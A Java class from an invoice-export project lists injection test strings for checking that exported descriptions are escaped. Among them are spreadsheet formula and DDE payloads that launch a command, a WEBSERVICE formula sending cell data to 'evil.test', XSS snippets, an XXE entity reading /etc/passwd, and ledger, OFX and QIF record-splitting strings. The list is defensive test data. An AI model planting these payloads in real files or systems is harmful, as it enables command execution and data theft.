package com.invoiceagent.export;

import java.util.List;

/// Descriptions that would do something if a program took them for more than text.
final class Payloads {

  /// All of them.
  static final List<String> ALL =
      List.of(
          // Formulas
          "=1+1",
          "+1+1",
          "-1+1",
          "@SUM(1,1)",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          " =1+1",
          "\u00a0=1+1",
          "\u200b=1+1",
          "\uFF1D1+1",
          "\u22121+1",
          "=cmd|'/C calc'!A0",
          "@SUM(1+1)*cmd|'/C calc'!A0",
          "=HYPERLINK(\"http://evil.test\",\"x\")",
          "=WEBSERVICE(\"http://evil.test/\"&A1)",
          "=DDE(\"cmd\";\"/C calc\";\"x\")",
          "x;=1+1",
          "x,=1+1",
          "x\";=1+1;\"",
          "\"=1+1",
          "'=1+1",
          // CSV
          "quote\"comma,semicolon;end",
          "line\r\nbreak,1,2,3",
          // XML, HTML, OFX
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "]]><b>x</b><![CDATA[",
          "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
          "&lt;STMTTRN&gt; &amp; &#65;",
          "</NAME></STMTTRN><STMTTRN><TRNAMT>999999.99<FITID>x",
          "_x003D_1+1 _x000D_",
          // Plain-text ledgers
          "\" \"x\"\n2020-01-01 open Assets:Evil\n2020-01-01 * \"",
          "\\\" ^link #tag \\",
          "x\n2020-01-01 evil\n    assets:a  1 BRL\n    assets:b",
          "x ; date:1999-01-01, type:X",
          "include /etc/passwd",
          "(code) = 2001-01-01 | payee",
          "x  1 BRL\n!include x",
          // QIF
          "^\nD2020-01-01\nT999999.99\nPevil\n^",
          "!Type:Bank\n!Account",
          // Unicode
          "\u202Etxt.exe\u202C \u2066x\u2069",
          "nul\u0000 bel\u0007 esc\u001b[31m del\u007f",
          "\uFEFFbom \uFFFE \uFFFF",
          "half \uD83D and \uDE00 half",
          "line\u2028separator\u2029\u0085x",
          "emoji \uD83D\uDE00 ação");

  private Payloads() {}
}
